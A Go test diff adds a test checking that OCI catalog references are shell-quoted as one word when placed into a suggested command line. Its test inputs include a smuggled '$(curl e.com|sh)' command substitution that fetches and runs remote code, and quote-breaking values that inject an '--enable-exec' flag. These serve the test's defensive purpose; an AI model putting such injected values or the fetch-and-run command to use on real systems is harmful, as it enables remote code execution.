@@ -87,3 +87,18 @@ func TestTypesHideNothing(t *testing.T) {
 		t.Errorf("%v %q", problems, result.Files)
 	}
 }
+
+// People copy the flag of a message into a shell.
+func TestAFlagInAMessageIsOneWord(t *testing.T) {
+	for reference, want := range map[string]string{
+		"oci://e.com/c:v1":                 "oci://e.com/c:v1",
+		"oci://e.com/$(curl e.com|sh)":     "'oci://e.com/$(curl e.com|sh)'",
+		"oci://e.com/c' --enable-exec 'x":  `'oci://e.com/c'\'' --enable-exec '\''x'`,
+		"oci://e.com/c:v1 --enable-exec #": "'oci://e.com/c:v1 --enable-exec #'",
+	} {
+		_, got := resolveFiles(t, map[string]string{"kustomization.yaml": fmt.Sprintf("catalogs: [%q]\n", reference)})
+		if len(got) != 1 || !strings.HasSuffix(got[0], " pass --trusted-catalog "+want) {
+			t.Errorf("%s: %q", reference, got)
+		}
+	}
+}
